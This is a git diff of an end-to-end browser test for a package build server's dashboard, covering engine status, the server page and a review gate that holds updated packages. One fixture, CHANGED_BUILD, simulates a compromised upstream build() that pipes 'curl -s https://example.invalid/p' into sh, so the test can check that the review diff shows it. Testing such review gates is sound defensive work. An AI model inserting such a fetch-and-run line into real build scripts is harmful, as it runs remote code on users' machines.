@@ -1,13 +1,18 @@
 /**
  * The dashboard in a real browser: Debian's Chromium (/usr/bin/chromium) driven by playwright-core,
  * against a real serene HTTP server (the repo-http test harness: Koa, SQLite store, orchestrator,
- * a runner whose builds wait until the test lets them go and log what the test writes). Screenshots
- * of every page go to test-artifacts/dashboard/ (git-ignored).
+ * the update gate, a runner whose builds wait until the test lets them go and log what the test
+ * writes). The runner reports three engines whose status the test sets (the Docker Engine pool's
+ * status, which host/src/engines.test.ts reads from real engines): the first build in the runner is
+ * on `big`, the others on `small`, and `pi` is down. Screenshots of every page go to
+ * test-artifacts/dashboard/ (git-ignored).
  */
 import { existsSync } from 'node:fs';
 import * as fs from 'node:fs/promises';
 import * as os from 'node:os';
 import * as path from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import type { EngineStatus } from '@serene/core';
 import { type BrowserContext, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
@@ -36,7 +41,7 @@ async function until(check: () => Promise<boolean> | boolean, ms = 15_000): Prom
   const end = Date.now() + ms;
   while (!(await check())) {
     if (Date.now() > end) throw new Error('condition not reached in time');
-    await new Promise((resolve) => setTimeout(resolve, 25));
+    await sleep(25);
   }
 }
 
@@ -45,6 +50,36 @@ const api = (pathname: string, body?: unknown) =>
 
 async function shot(name: string): Promise<void> {
   await page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
+}
+
+const ENGINES_SINCE = new Date(Date.now() - 5 * 60_000);
+
+/** The engines the runner reports: the first build on `big`, the others on `small`; `pi` is down. */
+function engines(running: readonly string[]): EngineStatus[] {
+  const engine = (name: string, builds: readonly string[], more: Partial<EngineStatus>): EngineStatus => ({
+    name,
+    arch: 'x86_64',
+    state: 'up',
+    since: ENGINES_SINCE,
+    capacity: 1,
+    running: builds.length,
+    builds,
+    labels: [],
+    ...more,
+  });
+  return [
+    engine('big', running.slice(0, 1), { labels: ['big'] }),
+    engine('small', running.slice(1), { capacity: 4 }),
+    engine('pi', [], { arch: undefined, state: 'down', reason: 'it stopped answering pings' }),
+  ];
+}
+
+const PLAIN_BUILD = 'build() {\n  make\n}';
+const CHANGED_BUILD = 'build() {\n  make\n  curl -s https://example.invalid/p | sh\n}';
+
+/** The version of a package in the repository, if published. */
+async function published(name: string): Promise<string | undefined> {
+  return (await h.publisher.list()).find((entry) => entry.name === name)?.version;
 }
 
 /** The builds of the server that have not ended. */
@@ -60,10 +95,11 @@ describeBrowser(
       await bundleDashboard({ outDir: path.join(root, 'public') });
       const dashboard = createDashboard({ assetsDir: path.join(root, 'public') });
       h = await startHarness({
-        packages: ['alpha', 'beta', 'broken', 'gamma', 'zeta', 'omega'].map((base) => ({
-          base,
-          pkgver: '1.0',
-        })),
+        packages: [
+          ...['alpha', 'beta', 'broken', 'gamma', 'zeta', 'omega'].map((base) => ({ base, pkgver: '1.0' })),
+          { base: 'delta', pkgver: '1.0', functions: PLAIN_BUILD },
+        ],
+        engines,
         behaviour: (base) => (base === 'broken' ? 'failure' : 'success'),
         http: { signer: fakeSigner(), plugins: [dashboard] },
         // what a container's cgroup would report, so that the chart has memory to show
@@ -91,7 +127,7 @@ describeBrowser(
             (await h.service.builds(names[0]!)).some((b) => b.ended !== null) &&
             (await inFlight()).length === 0,
         );
-        await new Promise((resolve) => setTimeout(resolve, 30));
+        await sleep(30);
       }
       await until(async () => (await h.service.builds('gamma')).filter((b) => b.ended !== null).length === 2);
 
@@ -192,6 +228,15 @@ describeBrowser(
       await page.getByRole('heading', { name: 'Queue' }).waitFor();
       const summary = page.getByTestId('queue-summary');
       await until(async () => (await summary.textContent()) === '2 running, 0 waiting');
+      // several engines: each running build shows its engine and architecture (alpha came first)
+      const row = (base: string) =>
+        page.locator('table.queue tr', { has: page.getByRole('link', { name: base, exact: true }) });
+      await until(
+        async () => (await row('beta').locator('[data-column="engine"]').textContent()) === 'small',
+      );
+      expect(await row('alpha').locator('[data-column="engine"]').textContent()).toBe('big');
+      expect(await row('alpha').locator('[data-column="arch"]').textContent()).toBe('x86_64');
+      expect(await page.locator('table.queue').getByRole('columnheader', { name: 'Engine' }).count()).toBe(1);
       await shot('4-queue');
       await page.getByRole('button', { name: 'Cancel the build of beta' }).click();
       // the runner stops when told to (the held build goes on once let go, as a container would end)
@@ -204,6 +249,17 @@ describeBrowser(
       // the recent builds show both outcomes
       await page.locator('table').last().getByText('build was cancelled by tester@laptop').waitFor();
       expect((await h.service.builds('alpha'))[0]?.state).toEqual({ state: 'success' });
+      // ... each with the engine it ran on and its architecture (several engines)
+      const recent = (base: string) =>
+        page
+          .locator('table')
+          .last()
+          .locator('tr', { has: page.getByRole('link', { name: base, exact: true }) });
+      await until(
+        async () => (await recent('alpha').first().locator('[data-column="engine"]').textContent()) === 'big',
+      );
+      expect(await recent('beta').first().locator('[data-column="engine"]').textContent()).toBe('small');
+      expect(await recent('beta').first().locator('[data-column="arch"]').textContent()).toBe('x86_64');
       await shot('5-queue-drained');
     });
 
@@ -212,6 +268,9 @@ describeBrowser(
       await page.getByRole('heading', { name: /^gamma/ }).waitFor();
       await page.locator('figure.chart svg rect').first().waitFor();
       expect(await page.locator('figure.chart svg rect.bar.s-passing').count()).toBe(2);
+      // the history names the engine of each build (GET /builds?package=), here the first engine
+      expect(await page.locator('[data-column="engine"]').allTextContents()).toEqual(['big', 'big']);
+      expect(await page.locator('[data-column="arch"]').allTextContents()).toEqual(['x86_64', 'x86_64']);
       await page.getByText('PKGBUILD', { exact: true }).click();
       await page.locator('pre.code').getByText('pkgver=1.0').waitFor();
       await page.getByRole('button', { name: 'Disable' }).click();
@@ -232,13 +291,30 @@ describeBrowser(
       await shot('7-build-done');
     });
 
-    it('shows the server: engines and the pacman.conf lines', async () => {
+    it('shows the server: engines with state and load, and the pacman.conf lines', async () => {
+      h.hold('zeta');
+      await api('/build', { packages: ['zeta'], clean: false, resolve: false, force: true });
+      await until(async () => (await inFlight()).includes('zeta'));
       await page.getByRole('link', { name: 'Server' }).click();
       await page.getByRole('heading', { name: 'Server' }).waitFor();
       await page.getByText(`Server = ${h.url}/x86_64`).waitFor();
       await page.getByText('sudo pacman-key --lsign-key ABCDEF').waitFor();
-      await page.getByText('gated', { exact: true }).waitFor();
+      const engine = (name: string) => page.locator(`table.engines tr[data-engine="${name}"]`);
+      // zeta runs on big: its load is full, the build is named
+      await until(async () => ((await engine('big').textContent()) ?? '').includes('zeta'));
+      expect(await engine('big').locator('.badge').textContent()).toBe('up');
+      expect(await engine('big').locator('.load').textContent()).toBe('1/1');
+      expect(await engine('big').getByRole('meter').getAttribute('value')).toBe('1');
+      expect(await engine('big').textContent()).toMatch(/for \d+m \d+s/);
+      expect(await engine('small').locator('.load').textContent()).toBe('0/4');
+      expect(await engine('pi').locator('.badge').textContent()).toBe('down');
+      expect(await engine('pi').textContent()).toContain('it stopped answering pings');
       await shot('8-server');
+      h.release('zeta');
+      // the table follows: big is idle again
+      await until(async () => (await engine('big').locator('.load').textContent()) === '0/1');
+      expect(await engine('big').textContent()).not.toContain('zeta');
+      await until(async () => (await inFlight()).length === 0);
     });
 
     it('works on a phone and in the dark, by keyboard, from its own origin only', async () => {
@@ -250,7 +326,8 @@ describeBrowser(
       await shot('9-phone');
       await page.getByRole('button', { name: /^Theme/ }).click();
       await page.getByRole('button', { name: /^Theme/ }).click();
-      expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
+      // the theme is applied by an effect, after the button has shown its new label
+      await until(async () => (await page.evaluate(() => document.documentElement.dataset.theme)) === 'dark');
       await shot('10-phone-dark');
       await page.setViewportSize({ width: 1280, height: 800 });
       await shot('11-dark');
@@ -276,6 +353,57 @@ describeBrowser(
       await page.getByRole('heading', { name: 'Packages' }).waitFor();
       await until(async () => (await h.ask('/package/omega')).status === 404);
       expect(await page.locator('table.list td.name a', { hasText: 'omega' }).count()).toBe(0);
+    });
+
+    it('shows an update the gate holds in the Review tab, and approving it there releases it', async () => {
+      // delta is built at 1.0, then reviewed by diff (its own setting); upstream changes its build()
+      const added = await api('/package/add', { replace: false, source: { type: 'aur', name: 'delta' } });
+      expect(added.status, added.text).toBe(200);
+      await until(async () => (await inFlight()).length === 0 && (await published('delta')) === '1.0-1');
+      expect((await api('/package/delta/set', { key: 'review', value: 'diff' })).status).toBe(200);
+      await h.aur.bump('delta', { pkgver: '1.1', functions: CHANGED_BUILD });
+      await api('/build', { packages: ['delta'], clean: false, resolve: false, force: false });
+      await until(async () => ((await api('/review')).json as { base: string }[]).length === 1);
+      expect(await published('delta')).toBe('1.0-1');
+
+      await page.goto(`${h.url}/dashboard/#/review`);
+      await page.getByRole('heading', { name: 'Held updates' }).waitFor();
+      // the tab counts it
+      await page.getByRole('link', { name: /^Review\s*1/ }).waitFor();
+      const row = page.locator('table tr', { has: page.getByRole('link', { name: 'delta', exact: true }) });
+      await row.waitFor();
+      expect(await row.textContent()).toContain('1.1-1');
+      await shot('13-review');
+      await page.getByRole('link', { name: 'delta', exact: true }).click();
+      await page.getByRole('heading', { name: /^delta/ }).waitFor();
+      await page.locator('pre.code').getByText('+  curl -s https://example.invalid/p | sh').waitFor();
+      await shot('14-review-held');
+      await page.getByRole('button', { name: 'Approve and build' }).click();
+      await page.getByText('Nothing is held.').waitFor();
+      // released: the gate holds nothing, and exactly the approved revision is built and published
+      expect((await api('/review')).json).toEqual([]);
+      await until(async () => (await published('delta')) === '1.1-1');
+      // the database is written before the build is recorded as a success (its `publish` phase)
+      await until(async () => (await h.service.builds('delta'))[0]?.state.state !== 'running');
+      expect((await h.service.builds('delta'))[0]?.state).toEqual({ state: 'success' });
+      await shot('15-review-approved');
+    });
+
+    it('on a server of several architectures, offers one pacman.conf line with $arch', async () => {
+      const multi = await startHarness({
+        arches: ['aarch64'],
+        http: { allowReads: true, plugins: [createDashboard({ assetsDir: path.join(root, 'public') })] },
+      });
+      try {
+        await page.goto(`${multi.url}/dashboard/#/server`);
+        await page.getByRole('heading', { name: 'Server' }).waitFor();
+        await page.getByText(`Server = ${multi.url}/$arch`).waitFor();
+        expect(await page.getByText('x86_64, aarch64').count()).toBe(1);
+        await shot('16-server-architectures');
+      } finally {
+        await multi.close();
+        await page.goto(`${h.url}/dashboard/`);
+      }
     });
 
     it('signs out, and the page asks for the secret again', async () => {
